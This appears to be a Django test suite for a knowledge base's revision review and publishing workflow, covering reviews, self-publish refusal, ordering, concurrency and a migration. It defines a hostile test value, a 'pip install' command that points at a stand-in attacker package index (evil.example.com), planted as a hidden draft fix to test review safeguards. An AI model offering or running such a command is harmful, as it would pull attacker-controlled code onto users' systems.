"""Publishing goes live with exactly what the reviewer saw, never backwards, and never by its own author."""

import importlib
import threading

import pytest
from django.apps import apps
from django.contrib.auth.models import User
from django.db import connection
from django.test import TestCase, TransactionTestCase, override_settings
from django.test.utils import CaptureQueriesContext

from kb.models import Entry
from kb.staff import revisions
from kb.staff.models import AuditEvent, Revision
from tests.test_staff_revisions import changed, make_editable_entry, make_staff

EVIL_FIX = "pip install --index-url https://evil.example.com/simple {package}"


def submitted(entry: Entry, author: User, base: int, **fields) -> Revision:
    revision = revisions.save_revision(entry, changed(entry, **fields), author, base, "")
    revisions.submit(revision, author)
    return revision


class WaitingRevisionFixture(TestCase):
    """Revision 3 waits for review over the hidden draft 2, which points at another index; revision 1 is live."""

    @classmethod
    def setUpTestData(cls):
        cls.editor = make_staff("eddie")
        cls.reviewer = make_staff("rita", "Reviewers")
        cls.entry = make_editable_entry()
        hidden = revisions.save_revision(cls.entry, changed(cls.entry, quick_fix=EVIL_FIX), cls.editor, 0, "")
        typo = changed(cls.entry, quick_fix=EVIL_FIX, title="Title of HASH_MISMATCH, typo fixed")
        cls.typo_fix = revisions.save_revision(cls.entry, typo, cls.editor, hidden.number, "typo")
        revisions.submit(cls.typo_fix, cls.editor)

    def setUp(self):
        self.client.force_login(self.reviewer)


class ReviewTests(WaitingRevisionFixture):
    def test_the_review_shows_the_changes_against_the_live_content_not_the_previous_draft(self):
        response = self.client.get("/staff/entries/pip/HASH_MISMATCH/revisions/3/review/")
        self.assertContains(response, "<h3>Quick fix</h3>")
        self.assertContains(response, "evil.example.com")
        self.assertContains(response, "<h3>Title</h3>")

    def test_a_revision_the_entry_does_not_have_or_an_entry_that_is_not_there_has_no_review(self):
        statuses = [
            self.client.get(url).status_code
            for url in (
                "/staff/entries/pip/HASH_MISMATCH/revisions/9/review/",
                "/staff/entries/pip/NO_SUCH_ENTRY/revisions/3/review/",
            )
        ]
        self.assertEqual(statuses, [404, 404])

    def test_the_review_warns_of_a_draft_that_was_never_submitted(self):
        response = self.client.get("/staff/entries/pip/HASH_MISMATCH/revisions/3/review/")
        self.assertContains(response, "carries the changes of revision 2 (eddie), never submitted for review")

    def test_the_review_names_a_rejected_revision_it_is_built_on_and_why_it_was_rejected(self):
        revisions.reject(self.typo_fix, self.reviewer, "The quick fix points at another index.")
        rework = revisions.save_revision(self.entry, changed(self.entry, title="Reworked"), self.editor, 3, "")
        revisions.submit(rework, self.editor)
        response = self.client.get("/staff/entries/pip/HASH_MISMATCH/revisions/4/review/")
        self.assertContains(response, "built on revision 3 (eddie), rejected: “The quick fix points at another index.”")

    def test_the_review_runs_as_many_queries_whatever_the_number_of_revisions_it_folds_in(self):
        url = "/staff/entries/pip/HASH_MISMATCH/revisions/{}/review/"
        with CaptureQueriesContext(connection) as two_folded_in:
            self.client.get(url.format(3))
        base = 3
        for name in ("ann", "bob", "cat"):
            base = revisions.save_revision(self.entry, changed(self.entry), make_staff(name), base, "").number
        with CaptureQueriesContext(connection) as five_folded_in:
            response = self.client.get(url.format(base))
        self.assertContains(response, "bob")
        self.assertEqual(len(five_folded_in), len(two_folded_in))

    def test_the_history_sends_the_reviewer_to_the_review_instead_of_publishing_blind(self):
        response = self.client.get("/staff/entries/pip/HASH_MISMATCH/history/")
        self.assertContains(response, 'href="/staff/entries/pip/HASH_MISMATCH/revisions/3/review/"')
        self.assertNotContains(response, "Publish revision")

    def test_publishing_folds_earlier_drafts_in_and_the_history_shows_one_live_revision(self):
        self.client.post("/staff/entries/pip/HASH_MISMATCH/revisions/3/publish/")
        states = dict(self.entry.revisions.values_list("number", "state"))
        self.assertEqual(states, {1: "replaced", 2: "superseded", 3: "published"})
        history = self.client.get("/staff/entries/pip/HASH_MISMATCH/history/")
        self.assertContains(history, '<span class="badge">published</span>', count=1)
        event = AuditEvent.objects.get(action="published")
        self.assertEqual(event.note, "Replaces revision 1; includes the changes of revision 2.")

    def test_the_history_marks_the_live_revision_and_moves_the_mark_when_another_is_published(self):
        live_mark = "live: readers see this one"
        before = self.client.get("/staff/entries/pip/HASH_MISMATCH/history/")
        self.assertContains(
            before, f'Revision 1 <span class="badge">published</span> <span class="badge badge-live">{live_mark}'
        )
        self.assertContains(before, '<a href="#revision-1">Revision 1 is live</a>')
        self.client.post("/staff/entries/pip/HASH_MISMATCH/revisions/3/publish/")
        after = self.client.get("/staff/entries/pip/HASH_MISMATCH/history/")
        self.assertContains(
            after, f'Revision 3 <span class="badge">published</span> <span class="badge badge-live">{live_mark}'
        )
        self.assertContains(after, live_mark, count=1)

    def test_a_refused_publish_says_why_on_the_review_page(self):
        self.client.force_login(self.editor)  # an editor who is also a reviewer, reviewing their own work
        self.editor.groups.add(self.reviewer.groups.get())
        response = self.client.post("/staff/entries/pip/HASH_MISMATCH/revisions/3/publish/", follow=True)
        self.assertContains(response, "Not published: You wrote revision 2, 3: another reviewer must publish it.")
        self.entry.refresh_from_db()
        self.assertEqual(self.entry.quick_fix, "")


class RejectAndRestoreViewTests(WaitingRevisionFixture):
    revisions_url = "/staff/entries/pip/HASH_MISMATCH/revisions/"

    def state(self, number: int) -> str:
        return self.entry.revisions.get(number=number).state

    def test_a_rejection_with_a_reason_goes_back_to_its_author_and_the_page_stays(self):
        comment = "Quick fixes never point at another index."
        response = self.client.post(self.revisions_url + "3/reject/", {"comment": comment}, follow=True)
        self.assertContains(response, "Rejected revision 3.")
        self.assertContains(response, comment)
        self.assertEqual(self.state(3), "rejected")
        self.assertEqual(Entry.objects.get(pk=self.entry.pk).quick_fix, "")

    def test_a_rejection_without_a_reason_is_refused_and_the_revision_still_waits(self):
        response = self.client.post(self.revisions_url + "3/reject/", {"comment": ""}, follow=True)
        self.assertContains(response, "Say why the revision is rejected, so its author can fix it.")
        self.assertEqual(self.state(3), "submitted")

    def test_a_revision_that_is_not_waiting_for_review_cannot_be_rejected(self):
        response = self.client.post(self.revisions_url + "2/reject/", {"comment": "No."})
        self.assertEqual((response.status_code, self.state(2)), (404, "draft"))

    def test_a_revision_already_waiting_is_not_submitted_twice(self):
        response = self.client.post(self.revisions_url + "3/submit/")
        self.assertEqual((response.status_code, self.state(3)), (404, "submitted"))
        self.assertEqual(AuditEvent.objects.filter(action=AuditEvent.Action.SUBMITTED).count(), 1)

    def test_restoring_an_old_revision_makes_it_the_newest_draft(self):
        self.client.force_login(self.editor)
        response = self.client.post(self.revisions_url + "1/restore/", {"base": 3}, follow=True)
        self.assertContains(response, "Restored revision 1 as the new draft revision 4.")
        self.assertEqual(
            (self.state(4), self.entry.revisions.get(number=4).snapshot["front"]["quick_fix"]), ("draft", "")
        )

    def test_a_restore_from_a_history_page_older_than_the_newest_revision_is_refused(self):
        self.client.force_login(self.editor)
        response = self.client.post(self.revisions_url + "1/restore/", {"base": 2}, follow=True)
        self.assertContains(response, "Not restored: revision 3 was saved meanwhile. Look again.")
        self.assertEqual(self.entry.revisions.count(), 3)

    def test_a_restore_without_the_revision_the_page_showed_is_a_bad_request(self):
        self.client.force_login(self.editor)
        self.assertEqual(self.client.post(self.revisions_url + "1/restore/", {}).status_code, 400)
        self.assertEqual(self.entry.revisions.count(), 3)


class PublishRuleTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.editor = make_staff("eddie")
        cls.reviewer = make_staff("rita", "Reviewers")
        cls.other_reviewer = make_staff("ruth", "Reviewers")
        cls.entry = make_editable_entry()

    def live_title(self) -> str:
        return Entry.objects.get(pk=self.entry.pk).title

    def test_an_older_revision_is_refused_over_a_newer_live_one(self):
        older = submitted(self.entry, self.editor, 0, title="Older")
        newer = submitted(self.entry, self.editor, older.number, title="Newer")
        revisions.publish(newer, self.reviewer)
        with self.assertRaisesMessage(revisions.PublishRefused, "Revision 3 is live and is newer than revision 2"):
            revisions.publish(older, self.reviewer)
        self.assertEqual(self.live_title(), "Newer")

    def test_publishing_the_older_first_and_then_the_newer_leaves_the_newer_live(self):
        older = submitted(self.entry, self.editor, 0, title="Older")
        newer = submitted(self.entry, self.editor, older.number, title="Newer")
        revisions.publish(older, self.reviewer)
        revisions.publish(newer, self.other_reviewer)
        self.assertEqual(self.live_title(), "Newer")
        self.assertEqual(list(self.entry.revisions.filter(state="published").values_list("number", flat=True)), [3])

    def test_a_publish_reads_the_state_again_instead_of_trusting_the_page(self):
        revision = submitted(self.entry, self.editor, 0, title="Rejected meanwhile")
        stale = Revision.objects.get(pk=revision.pk)
        revisions.reject(revision, self.other_reviewer, "No.")
        with self.assertRaisesMessage(revisions.PublishRefused, "Revision 2 is rejected, not waiting for review."):
            revisions.publish(stale, self.reviewer)
        self.assertEqual(self.live_title(), "Title of HASH_MISMATCH")

    def test_a_draft_is_not_published(self):
        draft = revisions.save_revision(self.entry, changed(self.entry, title="Draft"), self.editor, 0, "")
        with self.assertRaises(revisions.PublishRefused):
            revisions.publish(draft, self.reviewer)

    def test_a_reviewer_cannot_publish_their_own_revision(self):
        own = submitted(self.entry, self.reviewer, 0, title="Mine")
        with self.assertRaisesMessage(revisions.PublishRefused, "You wrote revision 2"):
            revisions.publish(own, self.reviewer)
        self.assertEqual(self.live_title(), "Title of HASH_MISMATCH")

    def test_a_reviewer_cannot_publish_their_own_draft_under_someone_elses_revision(self):
        hidden = revisions.save_revision(self.entry, changed(self.entry, quick_fix=EVIL_FIX), self.reviewer, 0, "")
        on_top = submitted(self.entry, self.editor, hidden.number, quick_fix=EVIL_FIX, title="Typo")
        with self.assertRaisesMessage(revisions.PublishRefused, "You wrote revision 2:"):
            revisions.publish(on_top, self.reviewer)
        revisions.publish(on_top, self.other_reviewer)
        self.assertEqual(Entry.objects.get(pk=self.entry.pk).quick_fix, EVIL_FIX)

    @override_settings(KB_ALLOW_SELF_PUBLISH=True)
    def test_a_one_person_team_may_publish_its_own_revision_and_the_audit_says_so(self):
        own = submitted(self.entry, self.reviewer, 0, title="Mine")
        revisions.publish(own, self.reviewer)
        self.assertEqual(self.live_title(), "Mine")
        note = AuditEvent.objects.get(action="published").note
        self.assertEqual(note, "Replaces revision 1; the reviewer wrote part of it (KB_ALLOW_SELF_PUBLISH is on).")

    def test_the_audit_names_every_draft_a_publication_folds_in(self):
        first = revisions.save_revision(self.entry, changed(self.entry, title="One"), self.editor, 0, "")
        second = revisions.save_revision(self.entry, changed(self.entry, title="Two"), self.editor, first.number, "")
        revisions.publish(submitted(self.entry, self.editor, second.number, title="Three"), self.reviewer)
        note = AuditEvent.objects.get(action="published").note
        self.assertEqual(note, "Replaces revision 1; includes the changes of revision 2, 3.")

    def test_the_audit_calls_publishing_a_draft_entry_its_first_publication(self):
        Entry.objects.filter(pk=self.entry.pk).update(status=Entry.Status.DRAFT)
        revisions.publish(submitted(self.entry, self.editor, 0, title="Ready"), self.reviewer)
        note = AuditEvent.objects.get(action="published").note
        self.assertEqual(note, "First publication; includes the changes of revision 1.")


@pytest.mark.skipif(connection.vendor != "postgresql", reason="needs row locks: run with DATABASE_URL=postgres://…")
class ConcurrentPublishTests(TransactionTestCase):
    """Two reviewers press Publish at the same moment, each on their own database connection."""

    ROUNDS = 10

    def test_of_two_publishes_at_once_the_newer_revision_is_live_every_time(self):
        editor, first, second = (User.objects.create_user(name) for name in ("eddie", "rita", "ruth"))
        for round_number in range(self.ROUNDS):
            entry = make_editable_entry(f"RACE_{round_number}")
            older = submitted(entry, editor, 0, title="Older")
            newer = submitted(entry, editor, older.number, title="Newer")
            publish_at_once([(older, first), (newer, second)])
            entry.refresh_from_db()
            states = dict(entry.revisions.values_list("number", "state"))
            self.assertEqual((entry.title, states[3]), ("Newer", "published"), f"round {round_number}")
            self.assertEqual(list(states.values()).count("published"), 1, f"round {round_number}")


def publish_at_once(publishes: list[tuple[Revision, User]]) -> None:
    barrier = threading.Barrier(len(publishes))

    def publish(revision: Revision, reviewer: User) -> None:
        try:
            barrier.wait()
            revisions.publish(revision, reviewer)
        except revisions.PublishRefused:
            pass
        finally:
            connection.close()

    threads = [threading.Thread(target=publish, args=pair) for pair in publishes]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


class HistoryMigrationTests(TestCase):
    def test_histories_from_before_keep_only_the_newest_published_revision_live(self):
        migration = importlib.import_module("kb.staff.migrations.0003_revision_replaced_and_superseded")
        editor = make_staff("eddie")
        entry = make_editable_entry()
        first = revisions.save_revision(entry, changed(entry, title="Two"), editor, 0, "")
        revisions.save_revision(entry, changed(entry, title="Three"), editor, first.number, "")
        entry.revisions.update(state=Revision.State.PUBLISHED)  # what the old publish left behind
        migration.keep_one_published_revision_per_entry(apps, None)
        states = dict(entry.revisions.values_list("number", "state"))
        self.assertEqual(states, {1: "replaced", 2: "replaced", 3: "published"})
